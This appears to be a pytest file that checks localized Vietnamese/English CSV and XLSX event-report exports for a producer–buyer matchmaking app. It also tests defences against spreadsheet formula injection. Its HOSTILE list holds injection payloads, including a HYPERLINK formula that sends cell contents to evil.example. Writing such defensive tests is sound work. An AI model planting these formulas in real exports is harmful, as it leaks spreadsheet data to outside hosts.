"""Event reports exported as CSV and XLSX read in the reader's language: headers, sheet names,
provinces, product groups, buyer types and outcomes by their names, never their codes."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from flask import Flask
from flask_babel import force_locale
from openpyxl import load_workbook

from matchmaker.events.reports import EventReport, Figures, to_csv, to_xlsx
from matchmaker.i18n import init_babel, say

ROW: dict[str, object] = {
    "event": "Kết nối cung cầu Tây Ninh 2026",
    "meeting_id": 7,
    "starts_at": "2026-10-01 09:00",
    "table": 3,
    "producer": "HTX Mật ong Tân Biên",
    "producer_province": "80",
    "buyer": "Saigon Co.op",
    "buyer_type": "supermarket",
    "product_group": "food",
    "attendance": "held",
    "interest": "interested",
    "stage": "first_order",
    "order_value_vnd": 120_000_000,
}


@pytest.fixture
def app() -> Iterator[Flask]:
    app = Flask(__name__)
    init_babel(app, "UTC")
    with app.app_context():
        yield app


def _report() -> EventReport:
    report = EventReport(rows=[ROW])
    figures = Figures(meetings=1, held=1, interested=1, mous=1, contracts=1, orders=1,
                      value_vnd=120_000_000)  # fmt: skip
    report.totals = figures
    report.by_province["80"] = figures
    report.by_product_group["food"] = figures
    report.by_buyer_type["supermarket"] = figures
    report.by_buyer_type["unknown"] = Figures()
    return report


def _csv(language: str) -> list[dict[str, str]]:
    with force_locale(language):
        text = to_csv(_report(), say)
    assert text.startswith("\ufeff")  # Excel opens the names as UTF-8
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_a_vietnamese_csv_names_things_in_vietnamese(app: Flask) -> None:
    (row,) = _csv("vi")
    assert row["Tỉnh, thành"] == "Tây Ninh"
    assert row["Loại người mua"] == "Chuỗi siêu thị"
    assert row["Nhóm sản phẩm"] == "Thực phẩm"
    assert row["Tham dự"] == "Đã gặp"
    assert row["Mức quan tâm"] == "Quan tâm"
    assert row["Kết quả"] == "Đơn hàng đầu tiên"
    # Amounts stay figures a spreadsheet can add up.
    assert row["Giá trị đơn hàng (đồng)"] == "120000000"


def test_an_english_csv_names_things_in_english(app: Flask) -> None:
    (row,) = _csv("en")
    assert row["Province"] == "Tay Ninh"
    assert row["Buyer type"] == "Supermarket chain"
    assert row["Product group"] == "Food"
    assert (row["Attendance"], row["Interest"], row["Outcome"]) == (
        "Held", "Interested", "First order"
    )  # fmt: skip


def test_the_workbook_is_in_the_readers_language_with_numbers_kept(app: Flask) -> None:
    with force_locale("vi"):
        workbook = load_workbook(io.BytesIO(to_xlsx(_report(), say)))
    assert workbook.sheetnames == [
        "Cuộc gặp", "Theo tỉnh, thành", "Theo nhóm sản phẩm", "Theo loại người mua"
    ]  # fmt: skip
    meetings = workbook["Cuộc gặp"]
    assert meetings["A1"].value == "Sự kiện" and meetings["F2"].value == "Tây Ninh"
    assert meetings["M2"].value == 120_000_000 and meetings["M2"].number_format == "#,##0"
    summary = [row for row in workbook["Theo loại người mua"].iter_rows(values_only=True)]
    assert summary[0][:3] == ("Nhóm", "Đã xếp", "Đã gặp")
    # Sorted by name (in Vietnamese "u" comes before "ư"), the total last.
    assert [row[0] for row in summary[1:]] == ["Chuỗi siêu thị", "Chưa rõ", "Tổng cộng"]
    assert summary[-1][1] == 1


HOSTILE = ('=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào")', "+1+2", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1")  # fmt: skip


def _hostile_report() -> EventReport:
    rows = [
        {**ROW, "event": text, "producer": text, "buyer": text, "table": text, "meeting_id": n}
        for n, text in enumerate(HOSTILE)
    ]
    report = _report()
    report.rows = rows
    report.by_province[HOSTILE[0]] = Figures(meetings=1)
    return report


def _is_inert(text: str) -> bool:
    return not text.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("language", ["vi", "en"])
def test_no_exported_cell_is_a_formula(app: Flask, language: str) -> None:
    with force_locale(language):
        text = to_csv(_hostile_report(), say)
        workbook = load_workbook(io.BytesIO(to_xlsx(_hostile_report(), say)))
    cells = [cell for line in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in line]
    assert all(_is_inert(cell) for cell in cells), [c for c in cells if not _is_inert(c)]
    for name in HOSTILE:
        assert "'" + name in cells  # shown as the text it is, not dropped
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert _is_inert(cell.value), (sheet.title, cell.coordinate, cell.value)
    values = [c.value for line in workbook.worksheets[0].iter_rows() for c in line]
    assert "'" + HOSTILE[0] in values and 120_000_000 in values
